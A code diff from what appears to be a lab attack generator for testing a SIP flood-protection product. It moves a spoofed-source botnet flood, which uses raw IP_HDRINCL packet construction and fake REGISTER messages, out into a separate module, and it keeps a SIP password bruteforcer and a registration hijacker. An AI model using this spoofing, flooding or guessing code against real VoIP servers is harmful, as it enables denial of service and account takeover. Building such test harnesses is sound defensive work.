@@ -7,8 +7,8 @@ prints one JSON object with what it did (``sent``, ``answered`` and per-attack d
 Which generators exist, with which sources, rates and targets each scenario starts them, and
 what each scenario is, is the registry's (``scenarios.py``): ``NAME`` is a generator some
 scenario names there, and its function here is that name with ``-`` written ``_`` (``ATTACKS``).
-How each one attacks is in its docstring. The botnet sends from spoofed sources (raw socket,
-``IP_HDRINCL``), so its answers go elsewhere and nothing comes back to count; the guesser uses an
+How each one attacks is in its docstring. The spoofed botnet's variants live in ``botnet.py``
+(its answers go elsewhere and nothing comes back to count); the guesser uses an
 ordinary phone's user agent (so no user-agent rule helps) and has the right password in its word
 list, so an unprotected registrar gets cracked.
 
@@ -27,7 +27,6 @@ import secrets
 import select
 import signal
 import socket
-import struct
 import sys
 import time
 from collections import Counter
@@ -35,7 +34,17 @@ from collections.abc import Callable, Iterator
 from typing import Any
 
 from floodguard.lab import scenarios, sip
-from floodguard.sip import build, digest
+from floodguard.lab.botnet import (  # noqa: F401  (generators looked up by name; re-exported)
+    PAYLOADS,
+    botnet,
+    botnet_junk,
+    botnet_noauth,
+    botnet_options,
+    botnet_packets,
+    spoofed_datagram,
+)
+from floodguard.lab.pacing import STOP, Pacer
+from floodguard.sip import build
 from floodguard.sip.message import DigestChallenge, SipMessage, SipParseError, parse_message
 
 COMMON_PASSWORDS = [
@@ -43,9 +52,6 @@ COMMON_PASSWORDS = [
     "qwerty", "sip", "voip", "pass", "test", "1234567", "12345678", "abc123", "changeme",
     "welcome", "asterisk", "default", "111111", "654321", "000000", "pbx", "phone",
 ]
-# Set by SIGINT/SIGTERM: every generator stops at its next step and still reports.
-_STOP: list[bool] = [False]
-
 # The real password is guess number CRACK_AT: an unprotected registrar is cracked, a protected
 # one bans the guesser long before.
 CRACK_AT = 20
@@ -81,47 +87,6 @@ def _parse(data: bytes) -> SipMessage | None:
         return None
 
 
-class Pacer:
-    """Paces a loop to ``rate`` items per second (rate 0: as fast as possible).
-
-    Fast floods are paced by spinning in batches of at most ``BATCH`` packets rather than by
-    sleeping: a flood that arrives in bursts with quiet gaps between them lets a registrar's
-    socket buffer drain in the gaps, which a real botnet (thousands of independent senders)
-    never does.
-    """
-
-    BATCH = 16
-    SPIN_ABOVE = 2000.0  # packets/s
-    MAX_BEHIND = 0.005  # s: after being descheduled, skip what is older instead of bursting
-
-    def __init__(self, rate: float, duration: float) -> None:
-        self.rate = rate
-        self.start = time.monotonic()
-        self.end = self.start + duration
-        self.done = 0
-        self.skipped = 0
-
-    def due(self) -> int:
-        """How many items are due now (0 when ahead of schedule); -1 when time is up."""
-        now = time.monotonic()
-        if now >= self.end or _STOP[0]:
-            return -1
-        if not self.rate:
-            return self.BATCH
-        due = int((now - self.start) * self.rate) - self.done
-        behind = int(self.rate * self.MAX_BEHIND)
-        if self.rate >= self.SPIN_ABOVE and due > behind + self.BATCH:
-            self.skipped += due - behind
-            self.done += due - behind
-            due = behind
-        if due <= 0:
-            if self.rate < self.SPIN_ABOVE:
-                ahead = (self.done + 1) / self.rate - (now - self.start)
-                time.sleep(min(0.002, max(0.0, ahead)))
-            return 0
-        return min(due, self.BATCH)
-
-
 # ---------------------------------------------------------------------------- volume
 
 
@@ -150,74 +115,6 @@ def volume(args: argparse.Namespace) -> dict[str, Any]:
     time.sleep(0.3)
     answered += _drain(sock)
     return {"sent": sent, "answered": answered, "sources": 1}
-
-
-# ---------------------------------------------------------------------------- botnet
-
-
-def _ip_checksum(header: bytes) -> int:
-    total = sum(struct.unpack("!10H", header))
-    total = (total >> 16) + (total & 0xFFFF)
-    total += total >> 16
-    return ~total & 0xFFFF
-
-
-def spoofed_datagram(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
-    """An IPv4+UDP packet for a raw IP_HDRINCL socket (UDP checksum 0: optional in IPv4)."""
-    length = 20 + 8 + len(payload)
-    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0,
-                         socket.inet_aton(src), socket.inet_aton(dst))
-    header = header[:10] + struct.pack("!H", _ip_checksum(header)) + header[12:]
-    return header + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
-
-
-def botnet_packets(sources: list[str], server: str, users: int) -> list[tuple[bytes, bytes]]:
-    """Per spoofed source, a REGISTER with bogus credentials split around an 8-digit counter
-    in the branch (so every packet is a new transaction, and the length never changes)."""
-    rng = random.Random(7)
-    out = []
-    for i, src in enumerate(sources):
-        sport = 5060 + (i % 3) * 1000
-        user = str(sip.FIRST_USER + rng.randrange(users)) if i % 2 else f"u{rng.randrange(10**6)}"
-        # a made-up nonce, answered with a random password
-        auth = digest.authorization_header(user, secrets.token_hex(8), sip.REALM,
-                                           secrets.token_hex(16), f"sip:{server}", "REGISTER",
-                                           cnonce=secrets.token_hex(4))
-        msg = build.register(server, user=user, local=f"{src}:{sport}",
-                             call_id=f"{secrets.token_hex(8)}@{src}", cseq=2, expires=60,
-                             authorization=auth, branch="z9hG4bKbot@@@@@@@@",
-                             user_agent="Linksys/SPA942-6.1.5")
-        packet = spoofed_datagram(src, server, sport, sip.SIP_PORT, msg)
-        head, tail = packet.split(b"@@@@@@@@", 1)
-        out.append((head, tail))
-    return out
-
-
-def botnet(args: argparse.Namespace) -> dict[str, Any]:
-    """Spoofed REGISTERs round-robin over every source, at --rate packets/s in all."""
-    sources = args.sources
-    packets = botnet_packets(sources, args.server, args.users)
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
-    dest = (args.server, 0)
-    n = len(packets)
-    pacer = Pacer(args.rate, args.duration)
-    sent = errors = 0
-    send = raw.sendto
-    while (due := pacer.due()) >= 0:
-        for _ in range(due):
-            head, tail = packets[sent % n]
-            try:
-                send(head + b"%08x" % (sent // n) + tail, dest)
-            except OSError:
-                errors += 1
-            sent += 1
-        pacer.done += due
-    elapsed = time.monotonic() - pacer.start
-    return {"sent": sent, "answered": 0, "sources": n, "send_errors": errors,
-            "per_source_rate": round(sent / n / max(elapsed, 1e-9), 3),
-            "rate": round(sent / max(elapsed, 1e-9), 1)}
 
 
 # ---------------------------------------------------------------------------- guessing
@@ -295,7 +192,7 @@ def bruteforce(args: argparse.Namespace) -> dict[str, Any]:
     statuses: Counter[str] = Counter()
     last: SipMessage | None = None
     words = guesses(target, 10**6)
-    while time.monotonic() < end and cracked is None and not _STOP[0]:
+    while time.monotonic() < end and cracked is None and not STOP[0]:
         auth = _authorization(last, target, next(words), args.server) if last is not None \
             else None
         request = build.register(args.server, user=target, local=f"{src}:5080",
@@ -473,7 +370,7 @@ def hijack(args: argparse.Namespace) -> dict[str, Any]:
     outcomes: Counter[str] = Counter()
     hijacked = 0
     round_no = 0
-    while time.monotonic() < end and not _STOP[0]:
+    while time.monotonic() < end and not STOP[0]:
         round_no += 1
         call_id = f"hj-{secrets.token_hex(6)}@{src}"
         first = build.register(args.server, user=victim, local=f"{src}:5085", call_id=call_id,
@@ -542,14 +439,14 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--users", type=int, default=60, help="lab accounts that exist")
     ap.add_argument("--target", default=sip.phone_user(0), help="account attacked")
     args = ap.parse_args(argv)
-    if args.attack == "botnet":
+    if args.attack in PAYLOADS:
         from floodguard.lab.topology import botnet_addresses
 
         args.sources = botnet_addresses(args.botnet_sources or 10000)
     if not args.sources:
         ap.error("at least one --source is needed")
     def on_stop(_sig: int, _frame: object) -> None:
-        _STOP[0] = True
+        STOP[0] = True
 
     signal.signal(signal.SIGINT, on_stop)
     signal.signal(signal.SIGTERM, on_stop)
